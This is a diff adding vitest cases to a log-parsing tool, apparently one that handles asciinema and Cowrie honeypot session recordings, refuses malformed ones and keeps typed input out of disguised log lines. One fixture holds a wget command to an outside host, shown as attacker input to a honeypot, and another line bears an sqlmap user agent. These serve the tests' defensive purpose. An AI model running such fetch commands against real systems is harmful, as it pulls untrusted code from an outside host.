@@ -1,6 +1,7 @@
 import { describe, expect, test } from "vitest";
 import { prepare, type Reading } from "../../prepare.ts";
 import { normalise } from "../index.ts";
+import { unreadRecording } from "./unread.ts";
 import { binOf, INTERVAL_BINS, INTERVAL_EDGES_MS } from "./strokes.ts";
 import { readTiming } from "./timing.ts";
 
@@ -90,6 +91,11 @@ describe("a recording nobody can read", () => {
     "before its beginning": JSON.stringify(record({ pos: -1 })),
     "of no place": JSON.stringify(record({ id: "x" })),
     "in a wrapper, cut off": JSON.stringify({ MESSAGE: whole }).slice(0, -9),
+    "cut off, in a whole wrapper": JSON.stringify({ MESSAGE: whole.slice(0, -9) }),
+    "an event of asciinema": '[0.248848, "i", "CANARY"]',
+    "an event of asciinema, cut off": '[12,"i","CANARY',
+    "asciinema's first version": '{"version": 1, "width": 80, "height": 24, "stdout": [[0.1, "CANARY"]]}',
+    "a piece of Cowrie's": `x${"\u0003".concat("\u0000".repeat(7))}\u0006CANARY`,
   };
   test.each(Object.entries(broken))("%s is refused, and nothing that was typed is kept with it", (_name, text) => {
     const prepared = prepare({ text, place: 0 }, reading, now);
@@ -109,6 +115,55 @@ describe("a recording nobody can read", () => {
     };
     expect(idOf("one")).toBe(idOf("another"));
   });
+});
+
+const RECORD = '{"timing":"+1<1","rec":"x","id":1,"pos":0,"in_txt":"y"}';
+const HIDERS = {
+  "a command at a decoy": JSON.stringify({
+    eventid: "cowrie.command.input",
+    timestamp: "2026-03-01T10:00:00Z",
+    src_ip: "203.0.113.7",
+    input: `wget http://198.51.100.9/x #${RECORD}`,
+    message: `CMD: wget http://198.51.100.9/x #${RECORD}`,
+  }),
+  "a path": `203.0.113.7 - - [01/Mar/2026:10:00:00 +0000] "GET /timing?\\"in_txt\\" HTTP/1.1" 404 1 "-" "sqlmap"`,
+  "a user name": `Mar  1 10:00:00 gate sshd[9]: Failed password for invalid user tlog: ${RECORD} from 203.0.113.7 port 4000 ssh2`,
+};
+test.each(Object.entries(HIDERS))("%s that looks like a recording hides nothing", (_name, line) => {
+  const event = read(line);
+  expect(event.action).not.toBe("terminal.input");
+  expect(event.src?.ip).toBe("203.0.113.7");
+  expect(event.raw).toContain("timing");
+});
+
+describe("a body that is a recording", () => {
+  const header = (operation: number): Buffer => {
+    const bytes = Buffer.alloc(24);
+    bytes.writeInt32LE(operation, 0);
+    return bytes;
+  };
+  test.each([
+    ["Cowrie", Buffer.concat([header(1), header(3), Buffer.from("CANARY")]), /tyr import/],
+    ["Cowrie, from its middle", Buffer.concat([header(3), Buffer.from("CANARY")]), /tyr import/],
+    ["asciinema", Buffer.from('\uFEFF{"version": 2, "width": 80, "height": 24}\n[1.5, "i", "CANARY"]'), /asciinema/],
+    [
+      "asciinema's third version",
+      Buffer.from('{"version":3,"term":{"cols":80,"rows":24}}\n[1, "i", "C"]'),
+      /asciinema/,
+    ],
+    ["asciinema, from its middle", Buffer.from('[1.5, "i", "CANARY"]\n[1.6, "o", "CANARY"]'), /asciinema/],
+  ])("by %s is told from a log", (_name, body, said) => {
+    expect(unreadRecording(body)).toMatch(said);
+    expect(unreadRecording(body)).not.toContain("CANARY");
+  });
+  test.each([
+    "",
+    "[1,2]",
+    '{"version":2}',
+    '{"version":"1.1","host":"a"}',
+    "[2026-02-01 10:00:00] a",
+    "\u0001 a\u0000",
+  ])("is not %j", (body) => expect(unreadRecording(Buffer.from(body))).toBeUndefined());
 });
 
 test("JSON with a member of that name that is no recording is read as before", () => {
